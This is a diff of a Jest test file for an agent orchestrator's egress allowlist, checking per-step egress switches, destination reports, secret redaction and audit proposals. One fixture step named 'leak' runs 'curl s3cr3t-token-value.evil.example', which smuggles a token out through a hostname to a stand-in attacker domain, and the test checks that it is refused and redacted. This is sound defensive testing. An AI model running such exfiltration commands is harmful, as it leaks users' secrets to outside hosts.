@@ -1,60 +1,50 @@
-// The orchestrator's side of egress: beginStep before each step that runs (with the step's
-// `egress`), the session's report on the agent and each step's part on the step, rendered in
-// summary.md, the job summary and the CLI lines; a session without egress leaves no trace.
+// The run's half of per-step egress: beginStep before every step that runs (with the step's
+// `egress:`, on by default for an agent with command_line_egress, off for one without), never for
+// skipped steps; the session's report in results per step and per agent, redacted; the log lines
+// and the audit proposal at the agent's end.
 import { describe, expect, it } from '@jest/globals'
-import { mkdtempSync, readFileSync } from 'node:fs'
+import { mkdtempSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import type { AgentPlan, Step } from '../../../src/config/types.js'
+import type { AgentPlan, RunPlan, Step } from '../../../src/config/types.js'
+import { Redactor } from '../../../src/report/redact.js'
+import { Run } from '../../../src/run/orchestrate.js'
 import {
   compileEgressPolicy,
   emptyEgressConfig,
-  EgressLog
+  EgressLog,
+  type EgressConfig
 } from '../../../src/runtime/egress/index.js'
-import { egressAnnotations, egressLines } from '../../../src/report/egress.js'
-import { renderJobSummary } from '../../../src/report/job-summary.js'
-import { writeReports } from '../../../src/report/write.js'
-import { Run } from '../../../src/run/orchestrate.js'
 import type { AgentSession, ExecRequest, Runtime } from '../../../src/runtime/types.js'
 
 type Begun = { index: number; name?: string; egress: boolean }
 
-/** A session whose commands "connect" where they say: `get host` is allowed or refused by the log. */
-function runtime(withEgress: boolean, audit = false) {
-  const begun: Begun[] = []
-  const policy = compileEgressPolicy({
-    ...emptyEgressConfig(),
-    allowedDomains: ['pypi.org'],
-    audit
-  })
-  const log = new EgressLog(policy, () => new Date('2026-01-01T00:00:00Z'))
-  let current: Begun | undefined
-  const rt: Runtime = {
+/** A session whose commands "request" the host named after `curl `; egress decided per step. */
+function runtime(config: EgressConfig | undefined, begun: Begun[]): Runtime {
+  return {
     async start(): Promise<AgentSession> {
+      const log = config ? new EgressLog(compileEgressPolicy(config), () => new Date(0)) : undefined
+      let step: Begun | undefined
       return {
-        info: { mode: 'srt' },
-        beginStep(step) {
-          begun.push(step)
-          current = step
-          log.enterStep(step)
+        info: { mode: 'docker' },
+        beginStep(s) {
+          begun.push({ ...s })
+          step = s
+          log?.enterStep(s)
         },
-        egressReport: withEgress ? () => log.report() : undefined,
-        exec: async (req: ExecRequest) => {
-          for (const host of req.command.match(/(?<=get )\S+/g) ?? []) {
-            const allowed = current?.egress && (audit || host === 'pypi.org')
-            log.record(host, 443, allowed ? 'allowed' : 'refused', {
-              allowed: !!allowed,
-              rule: allowed
-                ? 'allowed_domains: pypi.org'
-                : current?.egress
-                  ? 'not-listed'
-                  : 'egress-off',
-              reason: allowed ? '' : `egress refused: ${host}:443`
+        egressReport: log ? () => log.report() : undefined,
+        async exec(req: ExecRequest) {
+          const host = /^curl (\S+)/.exec(req.command)?.[1]
+          if (host && log) {
+            const ok = step?.egress === true && config!.allowedDomains.includes(host)
+            log.record(host, 443, ok ? 'allowed' : 'refused', {
+              allowed: ok,
+              rule: ok ? `allowed_domains: ${host}` : step?.egress ? 'not-listed' : 'egress-off',
+              reason: ''
             })
           }
-          const fail = req.command.includes('fail')
           return {
-            exitCode: fail ? 1 : 0,
+            exitCode: req.command === 'false' ? 1 : 0,
             stdout: '',
             stderr: '',
             truncated: false,
@@ -63,116 +53,137 @@ function runtime(withEgress: boolean, audit = false) {
             durationMs: 1
           }
         },
-        writeFile: async () => {},
+        writeFile: async () => undefined,
         readFile: async () => '',
-        close: async () => {}
+        close: async () => undefined
       }
     }
   }
-  return { rt, begun }
 }
 
-const run = (index: number, command: string, extra: object = {}): Step => ({
-  kind: 'run',
-  index,
-  run: command,
-  timeoutSec: 5,
-  env: {},
-  expectExit: 0,
-  allowFailure: false,
-  background: false,
-  ...extra
-})
-
-function agent(steps: Step[]): AgentPlan {
+function runStep(index: number, command: string, extra: Partial<Step> = {}): Step {
   return {
+    kind: 'run',
+    index,
+    run: command,
+    timeoutSec: 5,
+    env: {},
+    expectExit: 0,
+    allowFailure: false,
+    background: false,
+    ...extra
+  } as Step
+}
+
+function plan(steps: Step[], egress?: EgressConfig): RunPlan {
+  const agent: AgentPlan = {
     id: 'a',
-    mode: 'srt',
+    mode: 'docker',
     workspace: tmpdir(),
     contextPaths: [],
     policy: { enableSudo: false, allowed: [], blocked: [] },
     maxOutputBytes: 1024,
     steps,
-    egress: { ...emptyEgressConfig(), allowedDomains: ['pypi.org'] }
+    ...(egress ? { egress } : {})
+  }
+  return {
+    configFile: '/c.yaml',
+    workingDirectory: tmpdir(),
+    agents: [agent],
+    defaults: { timeoutSec: 60, maxOutputBytes: 1024 }
   }
 }
 
-async function execute(rt: Runtime, steps: Step[]) {
-  const dir = mkdtempSync(join(tmpdir(), 'egress-run-'))
-  const r = new Run(
-    {
-      configFile: '/c.yaml',
-      workingDirectory: tmpdir(),
-      agents: [agent(steps)],
-      defaults: { timeoutSec: 60, maxOutputBytes: 1024 }
-    },
-    { runId: 'r', outDir: dir, configLabel: 'c.yaml', runtimeFor: () => rt, log: () => {} }
-  )
-  return { res: await r.execute(), dir }
+async function execute(p: RunPlan, egress: EgressConfig | undefined, redactor?: Redactor) {
+  const begun: Begun[] = []
+  const lines: string[] = []
+  const run = new Run(p, {
+    runId: 'r',
+    outDir: mkdtempSync(join(tmpdir(), 'orch-egress-')),
+    configLabel: 'c.yaml',
+    runtimeFor: () => runtime(egress, begun),
+    log: (l) => lines.push(l),
+    redactor
+  })
+  return { res: await run.execute(), begun, lines }
 }
 
-describe('egress in the run', () => {
-  it('begins every step that runs, with its egress; reports per agent and per step', async () => {
-    const { rt, begun } = runtime(true)
-    const { res, dir } = await execute(rt, [
-      run(0, 'get pypi.org get evil.test', { name: 'deps' }),
-      { kind: 'write_file', index: 1, path: join(tmpdir(), 'n.txt'), content: 'x' },
-      run(2, 'get pypi.org && fail', { name: 'tests', egress: false }),
-      run(3, 'never')
-    ])
+describe('per-step egress in the run', () => {
+  const egress = { ...emptyEgressConfig(), allowedDomains: ['pypi.org'] }
+
+  it('begins every step that runs with its egress switch; skipped steps begin nothing', async () => {
+    const { begun } = await execute(
+      plan(
+        [
+          runStep(0, 'curl pypi.org', { name: 'deps' }),
+          { kind: 'write_file', index: 1, path: join(tmpdir(), 'x'), content: '' },
+          runStep(2, 'pytest', { name: 'tests', egress: false } as Partial<Step>),
+          runStep(3, 'false'),
+          runStep(4, 'never')
+        ],
+        egress
+      ),
+      egress
+    )
     expect(begun).toEqual([
       { index: 0, name: 'deps', egress: true },
       { index: 1, name: undefined, egress: true },
-      { index: 2, name: 'tests', egress: false }
+      { index: 2, name: 'tests', egress: false },
+      { index: 3, name: undefined, egress: true }
     ])
-    const [a] = res.agents
-    expect(
-      a.commands.map((s) => s.egress?.destinations.map((d) => `${d.outcome} ${d.host}`))
-    ).toEqual([['allowed pypi.org', 'refused evil.test'], [], ['refused pypi.org'], undefined])
-    expect(a.egress?.totals).toEqual({ allowed: 1, refused: 2, failed: 0 })
-    // results.json as written carries the same.
-    const written = await writeReports(dir, res)
-    const json = JSON.parse(readFileSync(written.resultsFile, 'utf8'))
-    expect(json.agents[0].egress.steps).toHaveLength(3)
-    const md = readFileSync(written.summaryFile, 'utf8')
-    expect(md).toContain('**egress (allowlist): 1 allowed, 2 refused**')
-    expect(md).toContain(
-      '| step 1 (deps) | <code>evil.test:443</code> | 1 | egress refused: evil.test:443 |'
-    )
-    expect(md).toContain('| step 3 (tests), egress: false | <code>pypi.org:443</code> | 1 |')
-    const html = renderJobSummary(res)
-    expect(html).toContain('<td>step 1 (deps)</td><td><code>evil.test:443</code></td>')
-    expect(egressAnnotations(a)).toEqual([
-      {
-        message: 'egress refused: evil.test:443 (1×) — egress refused: evil.test:443',
-        title: 'massgen-exec: a step 1 (deps)'
-      },
-      {
-        message: 'egress refused: pypi.org:443 (1×) — egress refused: pypi.org:443',
-        title: 'massgen-exec: a step 3 (tests), egress: false'
-      }
-    ])
-    expect(egressLines(a)[0]).toBe('egress (allowlist): 1 allowed, 2 refused')
   })
 
-  it('audit mode: the proposal is in every report', async () => {
-    const { rt } = runtime(true, true)
-    const { res, dir } = await execute(rt, [run(0, 'get pypi.org get files.example.org')])
-    expect(res.agents[0].egress?.proposedAllowedDomains).toEqual(['files.example.org', 'pypi.org'])
-    const written = await writeReports(dir, res)
-    expect(readFileSync(written.summaryFile, 'utf8')).toContain(
-      'proposed allowed_domains: <code>files.example.org</code>, <code>pypi.org</code>'
-    )
-    expect(egressLines(res.agents[0]).at(-1)).toBe(
-      '  proposed allowed_domains: ["files.example.org","pypi.org"]'
-    )
-  })
-
-  it('a session without egress leaves no egress field anywhere', async () => {
-    const { rt } = runtime(false)
-    const { res } = await execute(rt, [run(0, 'get pypi.org')])
+  it('an agent without command_line_egress begins its steps with egress off', async () => {
+    const { begun, res } = await execute(plan([runStep(0, 'true')]), undefined)
+    expect(begun).toEqual([{ index: 0, name: undefined, egress: false }])
     expect(res.agents[0].egress).toBeUndefined()
     expect(res.agents[0].commands[0].egress).toBeUndefined()
-    expect(renderJobSummary(res)).not.toContain('egress')
+  })
+
+  it('puts each step its destinations, and the agent the whole report, redacted', async () => {
+    const redactor = new Redactor()
+    redactor.add('s3cr3t-token-value')
+    const { res, lines } = await execute(
+      plan(
+        [
+          runStep(0, 'curl pypi.org', { name: 'deps' }),
+          runStep(1, 'curl s3cr3t-token-value.evil.example', { name: 'leak' }),
+          runStep(2, 'curl pypi.org', { name: 'offline', egress: false } as Partial<Step>)
+        ],
+        egress
+      ),
+      egress,
+      redactor
+    )
+    const [deps, leak, offline] = res.agents[0].commands
+    expect(deps.egress).toMatchObject({
+      index: 0,
+      name: 'deps',
+      egress: true,
+      destinations: [{ host: 'pypi.org', outcome: 'allowed', count: 1 }]
+    })
+    expect(leak.egress?.destinations).toMatchObject([
+      { host: '***.evil.example', outcome: 'refused', rule: 'not-listed' }
+    ])
+    expect(offline.egress).toMatchObject({
+      egress: false,
+      destinations: [{ host: 'pypi.org', outcome: 'refused', rule: 'egress-off' }]
+    })
+    expect(res.agents[0].egress?.totals).toEqual({ allowed: 1, refused: 2, failed: 0 })
+    expect(JSON.stringify(res)).not.toContain('s3cr3t')
+    expect(lines).toContain('[a] egress (allowlist): 1 allowed, 2 refused, 0 failed connection(s)')
+    expect(lines).toContain('[a]   refused ***.evil.example:443 in step 2 (leak): not-listed')
+  })
+
+  it('audit mode: the proposal is logged at the agent’s end', async () => {
+    const audit = { ...emptyEgressConfig(), audit: true }
+    const { res, lines } = await execute(
+      plan([runStep(0, 'curl pypi.org'), runStep(1, 'curl files.example')], audit),
+      audit
+    )
+    expect(res.agents[0].egress?.proposedAllowedDomains).toEqual(['files.example', 'pypi.org'])
+    expect(lines).toContain(
+      '[a] egress audit: proposed command_line_egress.allowed_domains: ["files.example","pypi.org"]'
+    )
   })
 })
